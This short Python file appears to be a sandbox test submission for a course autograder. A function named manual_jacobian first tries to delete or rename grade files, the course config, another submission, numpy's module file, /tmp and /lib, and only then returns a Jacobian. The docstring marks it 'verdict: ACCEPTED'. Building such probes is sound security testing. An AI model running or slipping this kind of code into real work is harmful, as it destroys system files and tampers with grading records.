"""Removes and renames files and folders, of others and of Python's own.

verdict: ACCEPTED
"""

import os
import shutil

import numpy as np

PLACES = ("@canaries@/results/grades.csv", "@course@/course.yml", "@submitted@/honest-000", np.__file__, "/tmp", "/lib")


def manual_jacobian(x, y):
    done = []
    for path in PLACES:
        for action in (
            os.unlink,
            os.rmdir,
            shutil.rmtree,
            lambda path: os.rename(path, f"{path}.moved"),
            lambda path: os.replace(path, f"{path}.moved"),
            lambda path: os.mkdir(f"{path}.new"),
        ):
            try:
                action(path)
                done.append(path)
            except OSError:
                pass
    return repr(done) if done else np.array([[2 * x, 1.0], [y, x], [np.exp(x), 0.0]])
